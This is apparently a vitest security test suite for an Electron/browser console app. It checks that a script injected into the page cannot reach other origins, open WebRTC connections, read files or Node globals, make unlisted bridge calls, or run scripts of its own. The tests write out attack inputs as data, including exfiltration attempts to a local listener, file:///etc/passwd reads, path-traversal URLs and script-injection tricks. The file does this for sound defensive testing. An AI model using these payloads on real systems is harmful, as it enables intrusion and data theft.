import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { createServer } from 'node:http'
import { createServer as createTcpServer } from 'node:net'
import type { AddressInfo } from 'node:net'
import { describe, expect, it, onTestFinished } from 'vitest'
import { createTestFolder } from '../support/console.ts'
import { consoleHosts, electronHost, type OpenedConsole } from './hosts.ts'

/** Runs a script as one that got into the page would: in the page's own world, with what the page has. */
type Attack = (script: string) => Promise<unknown>

for (const host of consoleHosts) {
  describe.skipIf(host.missing !== null)(
    `a script that got into the page in ${host.name}${host.missing ? ` (${host.missing})` : ''}`,
    () => {
      it('reaches no other origin', async () => {
        const { attack, page } = await openAttacked()
        const elsewhere = await listenElsewhere()
        await attack(`(async () => {
        const to = '${elsewhere.url}'
        await fetch(to + '/fetch').catch(() => {})
        navigator.sendBeacon(to + '/beacon', 'x')
        try { new WebSocket(to.replace('http', 'ws') + '/socket') } catch {}
        try { new EventSource(to + '/events') } catch {}
        const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields))
        add('img', { src: to + '/img' })
        add('script', { src: to + '/script' })
        add('iframe', { src: to + '/frame' })
        add('object', { data: to + '/object' })
        add('link', { rel: 'stylesheet', href: to + '/style' })
        add('link', { rel: 'prefetch', href: to + '/prefetch' })
        add('video', { src: to + '/video' })
        const form = Object.assign(document.createElement('form'), { action: to + '/form', method: 'post' })
        document.body.append(form)
        form.submit()
        window.open(to + '/window')
      })()`)
        const address = page.url()
        await page.waitForTimeout(1_000)
        expect(elsewhere.asked).toEqual([])
        expect(page.url()).toBe(address)
      })

      // No rule of a page keeps an ordinary browser from it.
      it.skipIf(host !== electronHost)('reaches nobody by WebRTC, over UDP or TCP', async () => {
        const { attack } = await openAttacked()
        const peers = await listenForPeers()
        const gathered = await attack(`(async () => {
          const iceServers = [
            { urls: 'stun:127.0.0.1:${peers.udpPort}' },
            { urls: 'turn:127.0.0.1:${peers.udpPort}', username: 'x', credential: 'y' },
            { urls: 'turn:127.0.0.1:${peers.tcpPort}?transport=tcp', username: 'x', credential: 'y' },
            { urls: 'turns:127.0.0.1:${peers.tcpPort}?transport=tcp', username: 'x', credential: 'y' }
          ]
          const connection = new RTCPeerConnection({ iceServers })
          connection.createDataChannel('x')
          const ended = new Promise((resolve) => connection.addEventListener('icegatheringstatechange', () => {
            if (connection.iceGatheringState === 'complete') resolve()
          }))
          await connection.setLocalDescription(await connection.createOffer())
          await connection.addIceCandidate({ candidate: 'candidate:1 1 udp 1 127.0.0.1 ${peers.udpPort} typ host', sdpMid: '0' }).catch(() => {})
          await ended
          return connection.localDescription.sdp.split('\\n').filter((line) => line.startsWith('a=candidate'))
        })()`)
        expect([gathered, peers.reached]).toEqual([[], []])
      })

      it('is told of no breach of the policy that the console itself commits when it loads', async () => {
        const { page } = await openAttacked()
        const problems: string[] = []
        page.on('console', (message) => {
          // What Chromium always says of the policy's sandbox, which keeps windows from being opened and not scripts from running.
          const isSandboxNote = message
            .text()
            .startsWith('An iframe which has both allow-scripts and allow-same-origin')
          if (['error', 'warning'].includes(message.type()) && !isSandboxNote) problems.push(message.text())
        })
        await page.addInitScript(`addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
          console.error('securitypolicyviolation', violatedDirective, blockedURI), true)`)
        await page.reload()
        await page.getByRole('navigation').waitFor()
        expect(problems).toEqual([])
        await page.evaluate(
          `document.body.append(Object.assign(document.createElement('script'), { textContent: '1' }))`
        )
        await expect.poll(() => problems.join()).toContain('securitypolicyviolation script-src')
      })

      it('reaches no file and nothing of Node', async () => {
        const { attack } = await openAttacked()
        expect(await attack(`fetch('file:///etc/passwd').then(() => 'read', () => 'refused')`)).toBe('refused')
        expect(
          await attack(`['require', 'process', 'module', 'Buffer', 'electron'].filter((name) => name in window)`)
        ).toEqual([])
        for (const path of [
          '/../../package.json',
          '/..%2f..%2fpackage.json',
          '/%2e%2e/main/cli.js',
          '/index.html/../../../etc/passwd'
        ]) {
          const script = `fetch('${path}').then((answer) => answer.text(), () => '')`
          expect(await attack(script)).not.toMatch(/better-sqlite3|root:/)
        }
      })

      it('makes no unlisted call, and a wrong one is refused by type while the program goes on', async () => {
        const { attack } = await openAttacked()
        const answers = (await attack(`(async () => {
        const bridge = window.provisionBridge
        const call = bridge
          ? async (noun, verb, input) => {
              const isListed = Object.hasOwn(bridge, noun) && Object.hasOwn(bridge[noun], verb)
              return isListed ? bridge[noun][verb](input) : { ok: false, error: { code: 'unknown-call' } }
            }
          : async (noun, verb, input) => {
              const headers = {
                'content-type': 'application/json',
                'x-provision-console': '1',
                'x-provision-tab': sessionStorage.getItem('provision-console.tab')
              }
              const answer = await fetch('/api/call/' + noun + ':' + verb, { method: 'POST', headers, body: JSON.stringify(input) ?? 'null' })
              return answer.json()
            }
        const outcomes = []
        for (const [noun, verb, input] of [
          ['files', 'read', { path: '/etc/passwd' }],
          ['__proto__', 'constructor', {}],
          ['users', 'list', { limit: 'many' }],
          ['users', 'list', null],
          ['users', 'import', { content: 'no bytes' }],
          ['settings', 'set', { changes: { 'server.host': 'x y' } }],
          ['codes', 'issue', { selection: { usernames: 7 } }]
        ]) outcomes.push(await call(noun, verb, input).then((result) => result.error?.code ?? 'let through', () => 'refused'))
        outcomes.push((await call('users', 'list', {})).ok)
        return outcomes
      })()`)) as unknown[]
        expect(answers.at(-1)).toBe(true)
        expect(answers.slice(0, -1)).toEqual([
          'unknown-call',
          'unknown-call',
          'invalid-input',
          'invalid-input',
          'invalid-input',
          'setting-invalid',
          'invalid-input'
        ])
      })

      it('cannot run a script of its own making', async () => {
        const { attack } = await openAttacked()
        expect(
          await attack(`(async () => {
          document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ranInline = true' }))
          document.body.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.ranData=true' }))
          document.body.append(Object.assign(document.createElement('script'), { src: URL.createObjectURL(new Blob(['window.ranBlob = true'])) }))
          await new Promise((resolve) => setTimeout(resolve, 300))
          return ['ranInline', 'ranData', 'ranBlob'].filter((name) => name in window)
        })()`)
        ).toEqual([])
      })

      async function openAttacked(): Promise<OpenedConsole & { attack: Attack }> {
        const opened = await host.open(createTestFolder())
        onTestFinished(() => opened.close())
        await opened.page.getByRole('navigation').waitFor()
        return { ...opened, attack: (script) => opened.page.evaluate(script) }
      }
    }
  )
}

async function listenElsewhere(): Promise<{ url: string; asked: string[] }> {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => void server.close())
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked }
}

/** Whoever takes packets and connections on this machine, and says nothing. */
async function listenForPeers(): Promise<{ udpPort: number; tcpPort: number; reached: string[] }> {
  const reached: string[] = []
  const udp = createSocket('udp4').on('message', () => void reached.push('udp'))
  const tcp = createTcpServer((socket) => {
    reached.push('tcp')
    socket.destroy()
  })
  onTestFinished(() => {
    udp.close()
    tcp.close()
  })
  udp.bind(0, '127.0.0.1')
  tcp.listen(0, '127.0.0.1')
  await Promise.all([once(udp, 'listening'), once(tcp, 'listening')])
  return { udpPort: udp.address().port, tcpPort: (tcp.address() as AddressInfo).port, reached }
}
